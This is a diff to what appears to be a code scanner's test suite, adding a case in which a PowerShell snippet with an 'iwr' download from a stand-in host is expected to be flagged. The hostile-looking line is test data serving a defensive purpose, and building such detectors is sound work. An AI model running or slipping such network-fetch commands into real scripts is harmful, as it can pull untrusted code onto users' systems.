@@ -52,6 +52,11 @@ describe('a file that nests a hundred thousand deep', () => {
   });
 });
 
+it('a list that is its own way to be called is called a few times', async () => {
+  const { findings } = await scan('a.ps1', "'' | ()\niwr http://a.example/x\n");
+  expect(findings.map(({ message }) => message).join('\n')).toContain('http://a.example/x');
+});
+
 it('Python that the parser nests too deep while it recovers from an error is cut there', async () => {
   const { coverage, verdict } = await scan(
     'a.py',
